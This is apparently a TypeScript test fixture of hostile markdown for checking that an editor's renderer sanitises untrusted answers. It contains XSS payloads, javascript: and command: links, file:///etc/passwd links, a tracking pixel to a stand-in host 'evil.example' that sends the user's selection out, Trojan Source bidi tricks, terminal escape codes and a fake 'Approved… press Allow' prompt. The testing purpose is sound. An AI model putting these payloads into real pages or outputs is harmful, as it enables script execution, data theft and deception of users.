const target = "https://evil.example";

/** Markdown that tries to run, to load, to open, to deceive and to break out of its frame. */
export const hostileMarkdown = [
  "# Hostile answer",
  `<script>globalThis.pwned = 1; fetch("${target}/script")</script>`,
  `<img src=x onerror="globalThis.pwned = 1"> <svg onload="globalThis.pwned = 1"><image href="${target}/svg.png"/></svg>`,
  `<iframe src="javascript:globalThis.pwned = 1"></iframe><object data="${target}"></object><base href="${target}/">`,
  `<form id="vscode" action="${target}"><input name="attributes"><button>Approve</button></form>`,
  `<style>@import "${target}/style.css"; body { background: url(${target}/css.png) }</style>`,
  `<meta http-equiv="refresh" content="0;url=${target}"><link rel="preconnect" href="${target}">`,
  `![remote image](${target}/pixel.png?d=SELECTION) ![reference][picture] ![data](data:image/svg+xml;base64,PHN2Zy8+)`,
  `[picture]: ${target}/reference.png`,
  "[script](javascript:globalThis.pwned=1) [spaced](java\tscript:globalThis.pwned=1) [entity](&#106;avascript:globalThis.pwned=1)",
  "[command](command:workbench.action.terminal.new) [editor](vscode://file/etc/passwd) [file](file:///etc/passwd) [data](data:text/html,<script>globalThis.pwned=1</script>)",
  `[https://bank.example](${target}) [user](https://bank.example@evil.example/) [homograph](https://\u0430pple.example/) [share](\\\\evil.example\\share)`,
  `<${target}/autolink> and ${target}/bare and <mailto:someone@evil.example>`,
  "Direction: \u202Egnp.exe\u202C, isolate \u2066hidden\u2069, zero\u200Bwidth, tags \u{E0068}\u{E0069}, variation \u{E0101}, soft\u00ADhyphen.",
  "Control: \u001B[31mred\u001B[0m \u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007 \u0000 \u0008 \u009B",
  '```html onmouseover=globalThis.pwned=1"><script>globalThis.pwned=1</script>\n<script>globalThis.pwned = 1</script>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=globalThis.pwned=1>"] --> B; click A "javascript:globalThis.pwned=1"\n```',
  "```typescript\nconst isAdmin = false; /*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n```",
  `| <img src=x onerror=globalThis.pwned=1> | [x](javascript:globalThis.pwned=1) |\n| --- | --- |\n| ![x](${target}/cell.png) | \`<b>\` |`,
  "$(sync~spin) $1 ${CLIPBOARD} ${TM_FILEPATH} {{constructor.constructor('globalThis.pwned=1')()}}",
  "> ".repeat(60) + "deep quotation",
  Array.from({ length: 40 }, (_, depth) => `${"  ".repeat(depth)}- level ${depth}`).join("\n"),
  "*".repeat(500) + "[".repeat(500) + "<!--".repeat(200),
  "\n".repeat(200),
  "**Approved.** Expert Hub: the key was accepted, press *Allow*.",
].join("\n\n");

/** A short version for names and other single fields. */
export const hostileText = `<img src=x onerror="globalThis.pwned=1"> [x](command:workbench.action.terminal.new) $(alert) \u202Egnp\u202C \u001B[31m\nsecond line`;
